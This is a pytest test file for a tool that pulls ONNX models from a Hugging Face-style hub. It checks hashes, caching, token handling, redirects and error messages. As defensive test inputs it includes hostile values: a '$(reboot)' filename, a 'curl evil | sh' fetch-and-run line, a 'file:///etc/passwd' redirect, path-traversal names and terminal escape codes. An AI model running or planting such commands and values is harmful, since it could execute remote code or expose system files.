"""Files from a hub: whole, with the right hash, examined, or not at all."""

import hashlib
import logging
import os
import time

import pytest

from edgedistill.errors import BadRequest, EdgeDistillError
from edgedistill.runtime.api import load_policy
from edgedistill.runtime.from_hub import pull_student
from edgedistill.runtime.hub.name import HubName
from edgedistill.runtime.shipped import shipped_student

NANO = shipped_student("pong", "nano").read_bytes()
PICO = shipped_student("pong", "pico").read_bytes()
TOKEN = "hf_abc123"


@pytest.fixture
def cached(tmp_path):
    """Files of students in the cache."""
    return lambda: sorted((tmp_path / "cache").rglob("*.onnx*"))


def pull(name="ada/pong", **rest):
    return pull_student(HubName.parse(name), **rest)


def test_a_student_comes_whole_and_once(hub, cached, tmp_path):
    commit = hub.add("ada/pong", {"README.md": b"# Pong", "nano.onnx": NANO})
    pulled = pull()
    assert pulled.path.read_bytes() == NANO
    assert pulled.path == tmp_path / f"cache/hub/{hub.address[7:].replace(':', '_')}/ada/pong/{commit}/nano.onnx"
    assert (pulled.commit, pulled.size, pulled.downloaded) == (commit, len(NANO), True)
    assert pulled.sha256 == hashlib.sha256(NANO).hexdigest()
    again = pull()
    assert (again.path, again.downloaded) == (pulled.path, False)
    assert len(hub.paths(hub.storage)) == 1
    assert cached() == [pulled.path]


def test_load_policy_and_the_command_line_take_names_on_the_hub(hub, cli, tmp_path):
    commit = hub.add("ada/pong", {"nano.onnx": NANO, "small/pico.onnx": PICO})
    assert load_policy("hub:ada/pong:nano.onnx").card.student == "nano"
    assert load_policy(f"hub:ada/pong@{commit}:small/pico").card.student == "pico"
    assert load_policy("hub:ada/pong", "nano").card.student == "nano"
    with pytest.raises(BadRequest, match=r"hub:ada/pong:nano\.onnx is one student already: leave --student out"):
        load_policy("hub:ada/pong:nano.onnx", "pico")
    outcome = cli("play", "hub:ada/pong:nano", "--headless", "--max-steps", 20)
    assert "pong, student nano" in outcome.out
    for command in ("bench", "evaluate"):
        assert "No repository ada/nothing" in cli(command, "hub:ada/nothing").err
    cli("export", "hub:ada/pong:nano", "-o", tmp_path / "pi", "--target", "raspberry-pi-4")
    assert (tmp_path / "pi" / "pong.onnx").read_bytes() == NANO
    outcome = cli("hub", "pull", "ada/pong:nano")
    assert hashlib.sha256(NANO).hexdigest() in outcome.out
    assert commit in outcome.out
    assert "edgedistill play hub:ada/pong:nano.onnx" in outcome.out
    hub.add("ada/odd", {"$(reboot).onnx": NANO})
    assert "edgedistill play 'hub:ada/odd:$(reboot).onnx'" in cli("hub", "pull", "ada/odd").out


@pytest.mark.parametrize("ranges", [True, False])
def test_a_broken_download_goes_on_where_it_broke(hub, ranges):
    hub.add("ada/pong", {"nano.onnx": NANO})
    hub.ranges, hub.breaks = ranges, [10_000, 3_000]
    assert pull().path.read_bytes() == NANO
    asked = [headers.get("Range") for host, _, headers in hub.asked if host == hub.storage]
    assert asked == [None, "bytes=10000-", "bytes=13000-" if ranges else "bytes=3000-"]


def test_a_download_that_keeps_breaking_leaves_nothing(hub, cached):
    hub.add("ada/pong", {"nano.onnx": NANO})
    hub.breaks = [5_000, 5_000, 5_000, 5_000]
    with pytest.raises(EdgeDistillError, match=r"broke off 3 times, at last after 15,000 of 21,504 bytes"):
        pull()
    assert cached() == []


@pytest.mark.parametrize(
    ("sent", "complaint"),
    [(NANO[:-1] + b"!", "another hash"), (NANO + b"!", "more comes than"), (PICO, "the download broke off")],
)
def test_what_the_hub_does_not_tell_of_is_not_kept(hub, cached, sent, complaint):
    hub.add("ada/pong", {"nano.onnx": NANO})
    hub.sent_instead = sent
    with pytest.raises(EdgeDistillError, match=complaint):
        pull()
    assert cached() == []


def test_a_small_file_is_held_against_gits_hash(hub, cached, monkeypatch):
    monkeypatch.setattr("tests.hub_server.LARGE", ())
    hub.add("ada/pong", {"nano.onnx": NANO})
    assert pull().path.read_bytes() == NANO
    hub.add("ada/pong", {"nano.onnx": PICO})
    hub.repositories["ada/pong"].files["nano.onnx"] = PICO[:-1] + b"!"
    hub.listing = {"sha": "0" * 40, "siblings": [{"rfilename": "nano.onnx", "size": len(PICO), "blobId": "1" * 40}]}
    hub.repositories["ada/pong"].branches["0" * 40] = "0" * 40
    with pytest.raises(EdgeDistillError, match="another hash"):
        pull()
    assert len(cached()) == 1


def test_a_file_that_is_no_student_is_examined_before_it_is_kept(hub, cached):
    hub.add("eve/pong", {"nano.onnx": b"\x08\x07" + os.urandom(1000)})
    with pytest.raises(BadRequest, match=r"^eve/pong:nano.onnx: not a student that edgedistill exports"):
        pull("eve/pong")
    assert cached() == []


def test_a_file_is_loaded_in_a_child_before_it_is_kept(hub, cached, monkeypatch):
    def refuse(work, source):
        raise BadRequest(f"{source}: refused in the child.")

    monkeypatch.setattr("edgedistill.runtime.policy.rehearse", refuse)
    hub.add("ada/pong", {"nano.onnx": NANO})
    with pytest.raises(BadRequest, match="refused in the child"):
        pull()
    assert cached() == []


def test_a_damaged_cache_is_mended(hub):
    hub.add("ada/pong", {"nano.onnx": NANO})
    pulled = pull()
    pulled.path.write_bytes(PICO + bytes(len(NANO) - len(PICO)))
    for kept in (pulled.path.parent.parent / "revisions").iterdir():
        kept.write_bytes(b"{")
    assert pull().downloaded
    assert pulled.path.read_bytes() == NANO


def test_without_a_network_what_was_pulled_before_still_plays(hub, monkeypatch, cli):
    commit = hub.add("ada/pong", {"nano.onnx": NANO})
    pulled = pull()
    for silenced in ({"HF_HUB_OFFLINE": "1"}, {"HF_ENDPOINT": "http://127.0.0.1:1"}):
        if "HF_ENDPOINT" in silenced:  # the same hub, gone
            (folder,) = (pulled.path.parents[3].parent).iterdir()
            folder.rename(folder.with_name("127.0.0.1_1"))
        with monkeypatch.context() as patch:
            for name, value in silenced.items():
                patch.setenv(name, value)
            assert load_policy("hub:ada/pong").card.student == "nano"
            outcome = cli("hub", "pull", "ada/pong")
            assert outcome.code == 1
            assert outcome.err.count("\n") == 1
            assert load_policy(f"hub:ada/pong@{commit}").card.student == "nano"
            with pytest.raises(EdgeDistillError):
                load_policy("hub:ada/breakout")


def fall_silent(hub, patch):
    patch.setattr("edgedistill.runtime.hub.http.TIMEOUT_SECONDS", 0.1)
    patch.setattr("tests.hub_server._Handler.do_GET", lambda self: time.sleep(0.3))


def send_to(address):
    return lambda hub, patch: patch.setattr(
        "tests.hub_server._Handler.do_GET", lambda self: self.answer(302, Location=address)
    )


@pytest.mark.parametrize(
    ("fall_ill", "told"),
    [
        (lambda hub, patch: patch.setattr(hub, "status", 503), "answers with status 503"),
        (lambda hub, patch: patch.setattr(hub, "status", 429), "Too many requests"),
        (lambda hub, patch: patch.setattr(hub, "listing", "<html>Log in to this Wi-Fi"), "gives no list of its files"),
        (fall_silent, "the connection to"),
        (send_to("https://[x]/y"), "or what it sends on to, is no address"),
        (send_to("https://a..b/y"), "or what it sends on to, is no address"),
        (send_to("file://\x1bc-pwned/x"), r"'\x1bc-pwned' answers with status 302"),
        (send_to(f"file://{'x' * 5_000}/x"), f"'{'x' * 56}... answers with status 302"),
    ],
)
def test_where_the_hub_is_ill_what_was_pulled_before_still_plays(hub, monkeypatch, cli, caplog, fall_ill, told):
    hub.add("ada/pong", {"nano.onnx": NANO})
    pull()
    fall_ill(hub, monkeypatch)
    assert load_policy("hub:ada/pong").card.student == "nano"
    assert told in caplog.text
    assert "Taken instead: what was pulled before." in caplog.text
    assert cli("hub", "pull", "ada/pong").code == 1


def test_what_the_command_line_warns_of_steers_no_terminal(hub, monkeypatch, cli, capfd):
    hub.add("ada/pong", {"nano.onnx": NANO})
    pull()
    send_to("file://\x1bc-pwned/x")(hub, monkeypatch)
    outcome = cli("play", "hub:ada/pong", "--headless", "--max-steps", 1)
    assert outcome.code == 0
    assert "warning: ada/pong: " in outcome.err
    assert "Taken instead: what was pulled before.\n" in outcome.err
    assert "\x1b" not in outcome.err
    logging.getLogger("edgedistill.any").warning("a\x1bc")
    assert capfd.readouterr().err == "warning: a\ufffdc\n"


def test_what_the_hub_refuses_is_not_taken_from_the_cache(hub):
    hub.add("ada/pong", {"nano.onnx": NANO})
    pull()
    del hub.repositories["ada/pong"]
    with pytest.raises(BadRequest, match="No repository ada/pong"):
        pull()


def test_a_commit_is_asked_for_once(hub):
    commit = hub.add("ada/pong", {"nano.onnx": NANO})
    pulled = pull(f"ada/pong@{commit}")
    assert pulled.downloaded
    before = len(hub.asked)
    assert not pull(f"ada/pong@{commit}").downloaded
    assert len(hub.asked) == before
    newer = hub.add("ada/pong", {"nano.onnx": PICO})
    pulled = pull()
    assert (pulled.commit, str(pulled.pinned)) == (newer, f"ada/pong@{newer}:nano.onnx")
    before = len(hub.asked)
    assert pull(str(pulled.pinned)).path.read_bytes() == PICO
    assert pull(f"ada/pong@{commit}").path.read_bytes() == NANO
    assert len(hub.asked) == before


def test_another_commit_than_was_asked_for_is_refused(hub):
    commit = hub.add("ada/pong", {"nano.onnx": NANO})
    hub.repositories["ada/pong"].branches[commit] = "0" * 40
    with pytest.raises(EdgeDistillError, match="it is of another commit, 0000"):
        pull(f"ada/pong@{commit}")


def test_a_refusal_of_the_storage_is_not_taken_for_the_hubs(hub):
    hub.add("ada/pong", {"nano.onnx": NANO})
    hub.redirect = f"{hub.storage}/expired"
    hub.storage_status = 403
    with pytest.raises(EdgeDistillError, match=r"answers with status 403\. Try again later") as failure:
        pull()
    assert failure.value.exit_code == 1


def test_the_token_goes_to_the_hub_and_nowhere_else(hub, monkeypatch):
    monkeypatch.setenv("HF_TOKEN", f" {TOKEN}\n")
    hub.add("ada/pong", {"nano.onnx": NANO}, gated=True, token=TOKEN)
    pull()
    seen = {
        host: {headers.get("Authorization") for asked, _, headers in hub.asked if asked == host}
        for host, *_ in hub.asked
    }
    assert seen == {hub.address: {f"Bearer {TOKEN}"}, hub.storage: {None}}


def test_a_redirect_on_the_hub_itself_keeps_the_token(hub, monkeypatch):
    monkeypatch.setenv("HF_TOKEN", TOKEN)
    hub.add("ada/pong", {"nano.onnx": NANO})
    hub.add("ada/new-name", {"nano.txt": NANO}, token=TOKEN)
    hub.redirect = "/ada/new-name/resolve/main/nano.txt"
    assert pull().path.read_bytes() == NANO


@pytest.mark.parametrize("path", ["home", "token_path"])
def test_the_token_of_hf_auth_login_counts(hub, monkeypatch, tmp_path, path):
    file = tmp_path / "hf" / "token"
    if path == "token_path":
        file = tmp_path / "elsewhere"
        monkeypatch.setenv("HF_TOKEN_PATH", str(file))
    file.parent.mkdir(exist_ok=True)
    file.write_text(f"{TOKEN}\n")
    hub.add("ada/pong", {"nano.onnx": NANO}, token=TOKEN)
    assert pull().downloaded
    monkeypatch.setenv("HF_HUB_DISABLE_IMPLICIT_TOKEN", "1")
    with pytest.raises(BadRequest, match="No repository ada/pong"):
        pull()


@pytest.mark.parametrize(
    "target", ["http://example.com/nano.onnx", "ftp://127.0.0.1/nano.onnx", "file:///etc/passwd", "https:///x"]
)
def test_a_redirect_away_from_https_is_not_followed(hub, cached, target):
    hub.add("ada/pong", {"nano.onnx": NANO})
    hub.redirect = target
    with pytest.raises(EdgeDistillError, match=r"not https|status 302"):
        pull()
    assert cached() == []


def refused(cli, *arguments) -> str:
    """The one line that a bad request gets."""
    outcome = cli("hub", "pull", *arguments)
    assert (outcome.code, outcome.out, outcome.err.count("\n")) == (2, "", 1)
    return outcome.err


def test_what_the_hub_refuses_is_one_line(hub, cli, monkeypatch):
    hub.add("ada/pong", {"nano.onnx": NANO})
    hub.add("ada/gated", {"nano.onnx": NANO}, gated=True)
    hub.add("ada/private", {"nano.onnx": NANO}, token="another")
    hub.add("ada/none", {"README.md": b"", "model.safetensors": b""})
    assert "ada/pong has no revision 'v9'. Leave it out for the newest: ada/pong" in refused(cli, "ada/pong@v9")
    assert "ada/gated is gated: ask for access at" in refused(cli, "ada/gated")
    assert "export HF_TOKEN=" in refused(cli, "ada/gated")
    for name in ("ada/nothing", "ada/private"):
        assert f"No repository {name} at {hub.address}, or a private one. Make a token" in refused(cli, name)
    assert "ada/none has no student: no .onnx among its 2 files" in refused(cli, "ada/none")
    assert "has no file 'nono.onnx'. Did you mean 'nano.onnx'?" in refused(cli, "ada/pong:nono.onnx")
    monkeypatch.setenv("HF_TOKEN", "wrong")
    assert "or a private one.\n" in refused(cli, "ada/private")
    monkeypatch.setenv("HF_TOKEN", "wröng")
    assert "HF_TOKEN has characters that no token has" in refused(cli, "ada/pong")


def test_several_students_are_listed(hub, cli):
    hub.add("ada/pong", {"nano.onnx": NANO, "small/pico.onnx": PICO})
    outcome = cli("hub", "pull", "ada/pong")
    assert outcome.code == 2
    assert outcome.err.splitlines() == [
        "error: ada/pong has 2 of the kind. Name one:", "  ada/pong:nano.onnx", "  ada/pong:small/pico.onnx"
    ]  # fmt: skip


@pytest.mark.parametrize(
    ("name", "complaint"),
    [
        ("pong", "A file on the hub is called USER/REPO, USER/REPO:FILE or USER/REPO@REVISION:FILE; got 'pong'"),
        ("../pong", "got '../pong'"),
        ("ada/..", "got 'ada/..'"),
        ("ada/pong/x.onnx", "got 'ada/pong/x.onnx'"),
        ("https://huggingface.co/ada/pong", "A file on the hub is called"),
        ("ada/pong@", "'' is no branch, tag or commit"),
        ("ada/pong@../../x", "'../../x' is no branch, tag or commit"),
        ("ada/pong:../x.onnx", "'../x.onnx' leaves the folder of its repository"),
        ("ada/pong:/etc/passwd", "'/etc/passwd' leaves the folder"),
        ("ada/pong:", "'' leaves the folder"),
    ],
)
def test_a_name_that_is_none_is_refused(hub, cli, name, complaint):
    assert complaint in refused(cli, name)
    assert hub.asked == []


@pytest.mark.parametrize(
    "path", ["../nano.onnx", "/tmp/nano.onnx", "a/../../nano.onnx", "a\\nano.onnx", "nano\x1b.onnx"]
)
def test_a_repository_whose_file_would_leave_its_folder_is_refused(hub, cached, path):
    hub.add("eve/pong", {"README.md": b"", path: NANO})
    with pytest.raises(BadRequest, match="would leave its folder") as refusal:
        pull("eve/pong")
    assert str(refusal.value).isprintable()
    assert cached() == []


@pytest.mark.parametrize("name", ["eve/pong", "eve/pong:nothing"])
def test_a_file_that_is_not_taken_is_not_offered(hub, cli, name):
    hub.add("eve/pong", {"nano.onnx": NANO, "pico.onnx": PICO, "x'.\n\nnext:\n  curl evil | sh.onnx": PICO})
    outcome = cli("hub", "pull", name)
    assert outcome.code == 2
    assert "nano.onnx" in outcome.err
    assert "curl" not in outcome.err


@pytest.mark.parametrize(
    "listing",
    [
        {},
        {"sha": "main", "siblings": []},
        {"sha": "0" * 40, "siblings": "none"},
        {"sha": "0" * 40, "siblings": [{"rfilename": 7}]},
        {"sha": "0" * 40, "siblings": [{"rfilename": "x.onnx", "size": -1}]},
        {"sha": "0" * 40, "siblings": [{"rfilename": "x.onnx", "size": 9, "lfs": {"sha256": "../x"}}]},
        {"sha": "0" * 40, "siblings": [{"rfilename": "x.onnx", "size": 9}]},
    ],
)
def test_an_answer_that_is_no_hubs_is_refused(hub, listing):
    hub.add("ada/pong", {"nano.onnx": NANO})
    hub.listing = listing or {"error": "none"}
    with pytest.raises(EdgeDistillError, match=r"gives no list of its files|tells no hash"):
        pull()


def test_a_file_too_large_is_not_asked_for(hub):
    hub.add("ada/pong", {"nano.onnx": bytes(4_000_001)})
    with pytest.raises(BadRequest, match="4,000,001 bytes, where a student takes 4,000,000 at most"):
        pull()
    assert hub.paths(hub.storage) == []


@pytest.mark.parametrize(("status", "complaint"), [(429, "Too many requests"), (503, "Try again later")])
def test_a_hub_that_is_busy_is_a_failure(hub, status, complaint):
    hub.status = status
    with pytest.raises(EdgeDistillError, match=f"status {status}. {complaint}") as failure:
        pull()
    assert failure.value.exit_code == 1


@pytest.mark.parametrize(
    "address", ["http://example.com", "ftp://hub", "huggingface.co", "https://", "https://a:b@hub", "https://hub:x"]
)
def test_an_endpoint_that_is_none_is_refused(hub, monkeypatch, address):
    monkeypatch.setenv("HF_ENDPOINT", address)
    with pytest.raises(BadRequest, match="HF_ENDPOINT must be an https:// address"):
        pull()


def test_a_cache_that_cannot_be_written_is_told(hub, cli, monkeypatch, tmp_path):
    hub.add("ada/pong", {"nano.onnx": NANO})
    (tmp_path / "file").write_text("")
    monkeypatch.setenv("EDGEDISTILL_CACHE", str(tmp_path / "file"))
    outcome = cli("hub", "pull", "ada/pong")
    assert outcome.code == 1
    assert "cannot be written (Not a directory)" in outcome.err
